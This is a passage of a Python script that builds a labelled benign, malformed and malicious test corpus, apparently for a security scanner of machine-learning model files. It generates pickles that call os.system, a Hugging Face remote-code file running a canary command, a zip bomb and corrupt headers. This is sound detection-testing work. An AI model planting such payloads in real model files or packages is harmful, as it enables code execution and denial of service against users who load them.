  name: adamw
  lr: 0.001
  sched:
    name: CosineAnnealing
"""


def nemo_archive(extra_config: str = "", weights: bytes | None = None) -> bytes:
    return tar_bytes(
        {
            "./model_config.yaml": (NEMO_CONFIG + extra_config).encode(),
            "./model_weights.ckpt": weights if weights is not None else benign_torch_checkpoint(),
            "./tokenizer.model": b"\x0a\x0bsentencepiece-model",
        },
        mode="w",
    )


def pmml(prolog: str = "", header_text: str = "") -> bytes:
    body = (
        f'<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="{header_text}"/>'
        '<DataDictionary numberOfFields="2"><DataField name="x" optype="continuous" dataType="double"/>'
        '<DataField name="y" optype="continuous" dataType="double"/></DataDictionary>'
        '<RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/>'
        '<MiningField name="y" usageType="target"/></MiningSchema><RegressionTable intercept="0.5">'
        '<NumericPredictor name="x" coefficient="2.0"/></RegressionTable></RegressionModel></PMML>'
    )
    return f'<?xml version="1.0" encoding="UTF-8"?>\n{prolog}\n{body}\n'.encode()


def safetensors_bytes() -> bytes:
    import numpy as np
    from safetensors.numpy import save

    return save(
        {"embed.weight": np.zeros((16, 8), dtype=np.float32), "lm_head.bias": np.zeros(16, dtype=np.float16)},
        metadata={"format": "pt"},
    )


def hf_dir(directory: Path, auto_map: bool) -> None:
    config: dict[str, Any] = {
        "architectures": ["LlamaForCausalLM"],
        "model_type": "llama",
        "hidden_size": 8,
        "torch_dtype": "float32",
        "transformers_version": "4.44.0",
    }
    if auto_map:
        config["architectures"] = ["AcmeForCausalLM"]
        config["auto_map"] = {
            "AutoConfig": "configuration_acme.AcmeConfig",
            "AutoModelForCausalLM": "modeling_acme.AcmeForCausalLM",
        }
        (directory / "modeling_acme.py").write_text("import os\nos.system('echo aispm-canary')\n")
        (directory / "configuration_acme.py").write_text("class AcmeConfig: ...\n")
    (directory / "config.json").write_text(json.dumps(config, indent=2))
    (directory / "model.safetensors").write_bytes(safetensors_bytes())
    (directory / "README.md").write_text("---\nlicense: apache-2.0\npipeline_tag: text-generation\n---\n# Model\n")


def hf_remote_code_dir(directory: Path) -> None:
    hf_dir(directory, auto_map=True)


CHAT_TEMPLATES = {
    "llama3": "{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = "
    "'<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'+ message['content'] | trim + "
    "'<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}"
    "{{ content }}{% endfor %}{% if add_generation_prompt %}"
    "{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}",
    "chatml": "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}"
    "{% endif %}",
    "mistral": "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 "
    "== 0) %}{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}"
    "{% endif %}{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}{% endif %}{% endfor %}",
    "tools": "{%- set ns = namespace(found=false) -%}{%- for message in messages -%}{%- if message.role == 'system' "
    "-%}{%- set ns.found = true -%}{%- endif -%}{%- endfor -%}{%- if tools is defined and tools -%}"
    "{{ tools | tojson(indent=2) }}{%- endif -%}{%- for message in messages -%}{{ message.role | upper }}: "
    "{{ message.content | replace('\\r', '') | trim }}{%- endfor -%}",
}


def benign_samples() -> list[tuple[str, str, str, Writer]]:
    import joblib
    import numpy as np
    import pandas as pd
    from sklearn.ensemble import RandomForestClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer, StandardScaler

    rng = np.random.default_rng(1)
    features = rng.normal(size=(80, 4))
    labels = (features[:, 1] > 0).astype(int)
    forest = RandomForestClassifier(n_estimators=5, random_state=0).fit(features, labels)
    pipeline = make_pipeline(FunctionTransformer(np.log1p), StandardScaler()).fit(np.abs(features))
    samples: list[tuple[str, str, str, Writer]] = []

    def add(sample_id: str, what: str, fmt: str, writer: Writer) -> None:
        samples.append((sample_id, what, fmt, writer))

    def joblib_writer(name: str, value: Any, compress: Any = 0) -> Writer:
        return lambda d: joblib.dump(value, d / name, compress=compress) and None

    add(
        "b00-numpy-pickle",
        "numpy array pickled",
        "pickle",
        file_writer("arr.pkl", pickle.dumps(np.arange(100.0).reshape(10, 10), protocol=4)),
    )
    add("b01-numpy-npy", "numpy .npy float array", "numpy", file_writer("emb.npy", np_bytes(np.ones((32, 8)))))
    add(
        "b02-numpy-object-npy",
        "numpy .npy object array of plain strings and dicts",
        "numpy",
        lambda d: np.save(d / "labels.npy", np.array(["cat", {"id": 1}, None], dtype=object), allow_pickle=True),
    )
    add("b03-numpy-npz", "numpy .npz", "npz", lambda d: np.savez(d / "arrays.npz", a=np.ones(4), b=np.zeros((2, 2))))
    add(
        "b04-sklearn-pickle",
        "scikit-learn LogisticRegression pickled",
        "pickle",
        file_writer("clf.pkl", pickle.dumps(fitted_logistic(), protocol=4)),
    )
    add(
        "b05-sklearn-forest-joblib",
        "scikit-learn RandomForest via joblib",
        "joblib",
        joblib_writer("forest.joblib", forest),
    )
    add(
        "b06-sklearn-pipeline-joblib-zlib",
        "scikit-learn pipeline with numpy ufunc, joblib zlib",
        "joblib",
        joblib_writer("pipeline.joblib", pipeline, 3),
    )
    add("b07-joblib-gzip", "joblib gzip", "joblib", joblib_writer("forest.joblib.gz", forest, ("gzip", 3)))
    add("b08-joblib-lz4", "joblib lz4", "joblib", joblib_writer("forest.joblib", forest, "lz4"))
    add(
        "b09-datetime-pickle",
        "datetime, timedelta, Decimal and OrderedDict pickled",
        "pickle",
        file_writer(
            "meta.pkl",
            pickle.dumps(
                {
                    "trained": dt.datetime(2024, 5, 1, 12, 30),
                    "took": dt.timedelta(hours=2),
                    "order": OrderedDict(a=1),
                    "counts": Counter("abca"),
                    "day": dt.date(2024, 5, 1),
                },
                protocol=2,
            ),
        ),
    )
    add(
        "b10-pandas-pickle",
        "pandas DataFrame pickled",
        "pickle",
        file_writer(
            "frame.pkl",
            pickle.dumps(pd.DataFrame({"a": [1, 2], "t": pd.to_datetime(["2024-01-01", "2024-01-02"])}), protocol=4),
        ),
    )
    add(
        "b11-torch-state-dict",
        "PyTorch state_dict checkpoint",
        "pytorch-zip",
        file_writer("pytorch_model.bin", benign_torch_checkpoint()),
    )
    add(
        "b12-torch-legacy",
        "legacy PyTorch checkpoint with plain metadata",
        "pytorch-legacy",
        file_writer("model.pt", torch_legacy_stream()),
    )
    add("b13-safetensors", "safetensors", "safetensors", file_writer("model.safetensors", safetensors_bytes))
    for index, (name, template) in enumerate(CHAT_TEMPLATES.items()):
        add(
            f"b{14 + index:02d}-gguf-{name}",
            f"GGUF with the {name} chat template",
            "gguf",
            lambda d, t=template: gguf_file(d / "model.gguf", t),
        )
    add(
        "b18-onnx-external-data",
        "ONNX with legitimate external data",
        "onnx",
        lambda d: onnx_model(d / "model.onnx", external=True),
    )
    add("b19-onnx-plain", "ONNX", "onnx", lambda d: onnx_model(d / "model.onnx"))
    add(
        "b20-keras-v3",
        "Keras .keras with Dense layers",
        "keras-v3",
        file_writer("model.keras", keras_v3(dense_layer())),
    )
    add("b21-keras-h5", "Keras HDF5", "hdf5", lambda d: keras_h5(d / "model.h5", dense_layer()))
    add(
        "b22-saved-model",
        "TensorFlow SavedModel",
        "tf-savedmodel",
        lambda d: saved_model_dir(d / "export", benign_saved_model()),
    )
    add("b23-skops", "skops LogisticRegression", "skops", lambda d: skops_file(d / "model.skops"))
    add("b24-nemo", "NeMo ASR archive", "nemo", file_writer("asr.nemo", nemo_archive))
    add("b25-pmml", "PMML regression", "pmml", file_writer("model.pmml", pmml()))
    add("b26-hf-directory", "Hugging Face model directory", "huggingface", lambda d: hf_dir(d, auto_map=False))
    return samples


def malformed_samples() -> list[tuple[str, str, str, Writer]]:
    benign = benign_torch_checkpoint()
    evil_free = pickle.dumps({"a": list(range(50))}, protocol=2)
    nested = pickle.dumps({"x": 1}, protocol=2)
    for depth in range(12):
        nested = zip_bytes({f"level{depth}.zip" if depth else "model.pkl": nested})
    bomb = zip_bytes({"model.pkl": b"\0" * (512 * MiB)})
    absurd_gguf = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 2**62) + b"key"
    return [
        ("m00-truncated-pickle", "pickle cut in the middle", "pickle", file_writer("model.pkl", evil_free[:-20])),
        ("m01-bad-opcode", "invalid opcode", "pickle", file_writer("model.pkl", b"\x80\x02\xff\xfe\xfd.")),
        (
            "m02-corrupt-zip",
            "PyTorch zip with a corrupt central directory",
            "pytorch-zip",
            file_writer("model.pt", benign[:-30] + b"\xff" * 30),
        ),
        (
            "m03-truncated-zip",
            "PyTorch zip cut in half",
            "pytorch-zip",
            file_writer("model.pt", benign[: len(benign) // 2]),
        ),
        ("m04-zip-bomb", "zip member expanding to 512 MiB (ratio ~1000)", "zip", file_writer("model.zip", bomb)),
        ("m05-nested-archives", "zips nested 12 deep", "zip", file_writer("model.zip", nested)),
        (
            "m06-safetensors-absurd-header",
            "safetensors header length 2^60",
            "safetensors",
            file_writer("model.safetensors", struct.pack("<Q", 2**60) + b'{"a": 1}'),
        ),
        (
            "m07-safetensors-overlap",
            "safetensors with overlapping tensors",
            "safetensors",
            file_writer(
                "model.safetensors",
                (lambda h: struct.pack("<Q", len(h)) + h + b"\0" * 16)(
                    json.dumps(
                        {
                            "a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                            "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
                        }
                    ).encode()
                ),
            ),
        ),
        ("m08-gguf-absurd-length", "GGUF key length 2^62", "gguf", file_writer("model.gguf", absurd_gguf)),
        (
            "m09-truncated-gzip",
            "gzip stream cut short",
            "gzip",
            file_writer("model.pkl.gz", gzip.compress(evil_free)[:-10]),
        ),
        (
            "m10-npy-bad-header",
            "numpy header cut short",
            "numpy",
            file_writer("x.npy", b"\x93NUMPY\x01\x00\xff\x00{'d"),
        ),
        ("m11-empty-model", "empty .pt file", "pickle", file_writer("model.pt", b"")),
        (
            "m12-deep-stack",
            "pickle with 100,000 nested MARKs",
            "pickle",
            file_writer("model.pkl", b"\x80\x02" + b"(" * 100_000 + b"."),
        ),
        (
            "m13-onnx-garbage",
            "ONNX with a bad wire type",
            "onnx",
            file_writer("model.onnx", b"\x08\x07\x12\x03abc\x3f\xff"),
        ),
    ]


def build_corpus(out: Path) -> list[dict[str, str]]:
    if out.exists():
        shutil.rmtree(out)
    labels: list[dict[str, str]] = []
    for label, samples in (
        ("malicious", malicious_samples()),
        ("benign", benign_samples()),
        ("malformed", malformed_samples()),
    ):
        for sample_id, technique, fmt, writer in samples:
            directory = out / label / sample_id
            directory.mkdir(parents=True)
            writer(directory)
            labels.append(
                {"id": sample_id, "set": label, "technique": technique, "format": fmt, "path": f"{label}/{sample_id}"}
            )
    (out / "labels.json").write_text(json.dumps(labels, indent=1))
    return labels


# --- speed workloads -------------------------------------------------------------------------------------------


def _dig_holes(path: Path) -> None:
    """Turn runs of zeros into holes (sparse file) where the filesystem allows it."""
    if shutil.which("fallocate"):
        subprocess.run(["fallocate", "--dig-holes", str(path)], check=False, capture_output=True)


def big_checkpoint(path: Path, total: int = GiB, tensors: int = 64) -> None:
    """A ~1 GiB PyTorch zip checkpoint: a normal data.pkl, storages of zeros (sparse on disk)."""
    per = total // tensors // 4
    width = int(per**0.5)
    state: OrderedDict[str, Any] = OrderedDict()
    for index in range(tensors):
        state[f"blocks.{index}.weight"] = _Tensor(_Storage(str(index), width * width), (width, width))
    data_pkl = dumps(state, 2, _TorchPickler)
    chunk = b"\0" * (4 * MiB)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED, allowZip64=True) as archive:
        archive.writestr("big_model/data.pkl", data_pkl)
        archive.writestr("big_model/byteorder", b"little")
        for index in range(tensors):
            with archive.open(f"big_model/data/{index}", "w", force_zip64=True) as member:
                remaining = 4 * width * width
                while remaining > 0:
                    member.write(chunk[: min(remaining, len(chunk))])
                    remaining -= len(chunk)
        archive.writestr("big_model/version", b"3\n")
    _dig_holes(path)


def big_pickle_payload_at_end(path: Path, size: int = GiB) -> None:
    """A 1 GiB raw pickle whose payload follows one huge byte string."""
    with path.open("wb") as handle:
        handle.write(b"\x80\x04(\x8e" + struct.pack("<Q", size))
        handle.truncate(handle.tell() + size)
        handle.seek(0, io.SEEK_END)
        handle.write(b"0" + reduce_call("os", "system")[2:])


def small_pickles(directory: Path, count: int = 2000) -> dict[str, str]:
    """``count`` small pickles (numpy, scikit-learn, plain metadata, torch checkpoints); one in 50 malicious."""
    import numpy as np

    directory.mkdir(parents=True, exist_ok=True)
    model = fitted_logistic()
    kinds = [
        ("arr", lambda i: pickle.dumps(np.arange(float(i % 50 + 1)), protocol=4)),
        ("clf", lambda i: pickle.dumps(model, protocol=4)),
        (
            "meta",
            lambda i: pickle.dumps(
                {"run": i, "at": dt.datetime(2024, 1, 1) + dt.timedelta(minutes=i), "tags": ["a", "b"], "score": i / 7},
                protocol=2,
            ),
        ),
        ("ckpt", lambda i: benign_torch_checkpoint(layers=2, width=8)),
    ]
    labels: dict[str, str] = {}
    for index in range(count):
        name, make = kinds[index % len(kinds)]
        if index % 50 == 7:
            data, label = reduce_call("os", "system", protocol=2 + index % 3), "malicious"
        else:
            data, label = make(index), "benign"
        relpath = f"shard{index // 200:02d}/{name}_{index:04d}.{'pt' if name == 'ckpt' else 'pkl'}"
        (directory / relpath).parent.mkdir(exist_ok=True)
        (directory / relpath).write_bytes(data)
        labels[relpath] = label
    (directory.parent / f"{directory.name}.labels.json").write_text(json.dumps(labels))
    return labels


def build_speed(out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    for name, build in (
        ("checkpoint-1g", lambda d: big_checkpoint(d / "model.pt")),
        ("pickle-1g-payload-at-end", lambda d: big_pickle_payload_at_end(d / "model.pkl")),
    ):
        directory = out / name
        if not directory.exists():
            directory.mkdir()
            build(directory)
    if not (out / "pickles-2000").exists():
        small_pickles(out / "pickles-2000")


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("out", type=Path)
    parser.add_argument(
        "--speed", action="store_true", help="also build the speed workloads (1 GiB files, 2,000 pickles)"
    )
    args = parser.parse_args()
    labels = build_corpus(args.out / "corpus")
    counts = Counter(entry["set"] for entry in labels)
    print(f"corpus: {dict(counts)} in {args.out / 'corpus'}")
    if args.speed:
        build_speed(args.out / "speed")
        print(f"speed workloads in {args.out / 'speed'}")


if __name__ == "__main__":
    main()
